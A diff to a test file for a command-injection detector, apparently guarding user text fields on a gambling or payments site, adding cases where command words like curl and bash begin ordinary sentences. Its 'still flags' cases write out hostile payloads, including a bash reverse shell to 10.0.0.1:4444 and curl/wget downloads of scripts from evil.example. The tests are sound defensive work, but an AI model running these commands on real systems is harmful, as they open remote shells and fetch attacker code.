@@ -44,6 +44,28 @@ describe("detectUnixCommand at the value start and after a spaced separator", ()
   });
 });
 
+describe("detectUnixCommand where a command word opens a sentence", () => {
+  it.each([
+    "Curl up with a good book, they said.",
+    "Bash my head against the bonus terms all day",
+    "Wget my deposit please, it is missing since Monday",
+    "Ssh to me later when the withdrawal is through",
+  ])("leaves %j alone", (text) => {
+    expect(detectUnixCommand(text.toLowerCase())).toBeNull();
+  });
+
+  it.each([
+    "curl my.evil.example/x.sh",
+    "wget evil.example/x.sh",
+    "curl -O http://evil.example/x",
+    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+    "ansible-galaxy collection install community.general",
+    "chmod up /tmp/x",
+  ])("still flags %j", (payload) => {
+    expect(detectUnixCommand(payload)).not.toBeNull();
+  });
+});
+
 describe("mayContainCommand", () => {
   it.each([
     ["ls -la", true],
